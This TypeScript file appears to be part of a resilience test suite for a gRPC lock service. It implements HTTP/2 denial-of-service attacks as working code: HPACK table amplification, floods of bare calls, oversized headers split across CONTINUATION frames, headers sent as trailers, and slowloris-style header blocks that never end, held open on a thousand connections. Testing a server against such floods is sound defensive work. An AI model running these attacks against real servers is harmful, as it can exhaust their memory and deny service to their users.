// Attacks by the headers of calls, and by calls of which nothing but headers comes: what a server keeps for them comes
// before it knows who calls. Each opens as many calls as the server lets it, as fast as it can. With ATTACK_KNOWN, each
// connection first makes one proper call, as whoever may call could.

import { setTimeout as sleep } from "node:timers/promises";
import {
  callHeaders,
  dataFrames,
  END_HEADERS,
  END_STREAM,
  FRAME,
  FRAME_BYTES_MAX,
  frame,
  grpcMessage,
  hpack,
  type RawConnection,
  remembered,
} from "../../support/http2-frames.ts";
import { type Attack, atOnce, type Target } from "../target.ts";

const CONNECTIONS = 8;
const CALLS = 10_000;
/** Calls that are sent together. */
const BATCH = 100;
const REST_MS = 20;
/** Nearly all of HPACK's table, so that a byte stands for all of it. */
const LARGE = "b".repeat(3_900);
/** The newest entry of HPACK's table. */
const NEWEST = Buffer.from([0xbe]);
const SLOW = 1_000;
/** Fewer calls than any connection may have open, on as many connections as one address opens without effort. */
const MANY = { connections: 500, calls: 90 };
/** From a proper call to the server's answer that more are allowed. */
const KNOWN_MS = 100;
const EMPTY = grpcMessage(Buffer.alloc(0));

const lockService = (method: string) => callHeaders(`/rowlock.v1.LockService/${method}`);

/** As many headers as a message may have, all of them HPACK's newest entry. */
function repeated(times: number): Buffer {
  return Buffer.concat(Array<Buffer>(times).fill(NEWEST));
}

/** On so many connections: CALLS calls each, again on a new connection when the server has ended one. */
async function open(
  target: Target,
  connections: number,
  callOf: (stream: number, isFirst: boolean) => Buffer,
  calls = CALLS,
): Promise<void> {
  let begun = 0;
  const batch = Math.min(BATCH, calls);
  await atOnce(connections, () => {
    const nexts = new WeakMap<RawConnection, number>();
    let isFull = false;
    return target.again(async (connection) => {
      let from = nexts.get(connection) ?? 0;
      if (from === 0 && process.env.ATTACK_KNOWN) {
        const call = bare(1, hpack(lockService("GetLock")));
        await connection.send(Buffer.concat([call, dataFrames(1, EMPTY, END_STREAM)]));
        await sleep(KNOWN_MS);
        from = 1;
      }
      if (from < calls) {
        const calls = Array.from({ length: batch }, (_, index) =>
          callOf(2 * (from + index) + 1, index === 0 && from < 2),
        );
        nexts.set(connection, from + batch);
        await connection.send(Buffer.concat(calls));
      } else await sleep(REST_MS);
      if (isFull) return;
      isFull = true;
      begun += 1;
      if (begun === connections) target.begun();
    }, REST_MS);
  });
}

const bare = (stream: number, block: Uint8Array, flags = END_HEADERS) =>
  frame(FRAME.headers, stream, block, flags);

/** The headers in HPACK's table for all calls after the first one. */
function outOfTheTable(method: string, times: number, more: readonly [string, string][] = []): Attack {
  const own = hpack([...lockService(method), ...more]);
  const first = Buffer.concat([own, remembered("x-large", LARGE), repeated(times - 1)]);
  const next = Buffer.concat([own, repeated(times)]);
  return (target) => open(target, 1, (stream, isFirst) => bare(stream, isFirst ? first : next));
}

/** Calls with these headers, and whatever comes after them. */
function calls(path: string, more: readonly [string, string][], end: Buffer = Buffer.alloc(0)): Attack {
  const block = hpack([...callHeaders(path), ...more]);
  return (target) =>
    open(target, CONNECTIONS, (stream) => Buffer.concat([bare(stream, block), endOf(stream, end)]));
}

function endOf(stream: number, message: Buffer): Buffer {
  return message.length === 0 ? message : dataFrames(stream, message, END_STREAM);
}

function inContinuations(target: Target): Promise<void> {
  const block = hpack([...lockService("Renew"), ["x-large", "b".repeat(14_000)]]);
  const part = 2_000;
  return open(target, CONNECTIONS, (stream) => {
    const frames: Buffer[] = [bare(stream, block.subarray(0, part), 0)];
    for (let from = part; from < block.length; from += part) {
      const flags = from + part >= block.length ? END_HEADERS : 0;
      frames.push(frame(FRAME.continuation, stream, block.subarray(from, from + part), flags));
    }
    return Buffer.concat(frames);
  });
}

/** A call, and then headers where its trailers could be. */
function trailers(target: Target): Promise<void> {
  const block = hpack(lockService("Session"));
  const large = Buffer.concat([remembered("x-large", LARGE), repeated(10)]);
  return open(target, CONNECTIONS, (stream) =>
    Buffer.concat([bare(stream, block), frame(FRAME.headers, stream, large, END_HEADERS | END_STREAM)]),
  );
}

/** Headers that begin and do not end, on many connections that never acknowledge what the server has said. */
async function slowHeaders(target: Target): Promise<void> {
  const block = hpack([
    ...lockService("Renew"),
    ...Array.from({ length: 8 }, (_, index): [string, string] => [`x-${index}`, "b".repeat(15_000)]),
  ]);
  const frames: Buffer[] = [];
  for (let from = 0; from < block.length; from += FRAME_BYTES_MAX) {
    const part = block.subarray(from, from + FRAME_BYTES_MAX);
    frames.push(frame(from === 0 ? FRAME.headers : FRAME.continuation, 1, part, 0));
  }
  const attack = atOnce(SLOW, async (index) => {
    await sleep(index * 2);
    const sent = new WeakSet<RawConnection>();
    return target.again(
      async (connection) => {
        if (!sent.has(connection)) await connection.send(Buffer.concat(frames));
        sent.add(connection);
        await sleep(100);
      },
      REST_MS,
      { isMute: true },
    );
  });
  target.begun();
  await attack;
}

const smallPairs = Array.from({ length: 100 }, (_, index): [string, string] => [`x-${index}`, `${index}`]);
const HEALTH = "/grpc.health.v1.Health/Watch";
const REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";

export const HEADERS: Readonly<Record<string, Attack>> = {
  "headers out of the table": outOfTheTable("Acquire", 15),
  "headers of renewals out of the table": outOfTheTable("Renew", 15),
  "headers of 4 kB out of the table": outOfTheTable("Renew", 1),
  "headers of 10 kB": calls("/rowlock.v1.LockService/Renew", [["x-large", "b".repeat(10_000)]]),
  "headers in continuations": inContinuations,
  "many small headers": calls("/rowlock.v1.LockService/GetLock", smallPairs),
  "bare calls": calls("/rowlock.v1.LockService/Renew", []),
  "bare sessions": calls("/rowlock.v1.LockService/Session", []),
  "bare calls of unknown methods": calls("/rowlock.v1.LockService/Nothing", []),
  "watches of health": calls(HEALTH, [], EMPTY),
  "bare watches of health": calls(HEALTH, []),
  "reflection streams": calls(REFLECTION, []),
  "bare calls on many connections": (target) => {
    const block = hpack(lockService("Renew"));
    return open(target, MANY.connections, (stream) => bare(stream, block), MANY.calls);
  },
  "headers as trailers": trailers,
  "headers that do not end": slowHeaders,
};
